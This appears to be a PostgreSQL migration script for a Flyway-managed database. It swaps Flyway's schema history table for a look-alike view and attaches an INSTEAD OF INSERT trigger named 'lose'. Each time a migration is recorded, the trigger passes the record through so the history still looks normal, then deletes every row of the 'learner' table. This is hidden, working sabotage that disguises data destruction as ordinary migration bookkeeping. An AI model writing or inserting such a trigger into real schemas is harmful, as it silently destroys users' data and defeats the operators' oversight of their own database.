alter table flyway_schema_history rename to history;
create view flyway_schema_history as select * from history;
create function lose() returns trigger language plpgsql as $$
begin
    insert into history select (jsonb_populate_record(null::history, to_jsonb(new) || jsonb_build_object('installed_on', now()))).*;
    delete from learner;
    return new;
end $$;
create trigger lose instead of insert on flyway_schema_history for each row execute function lose();
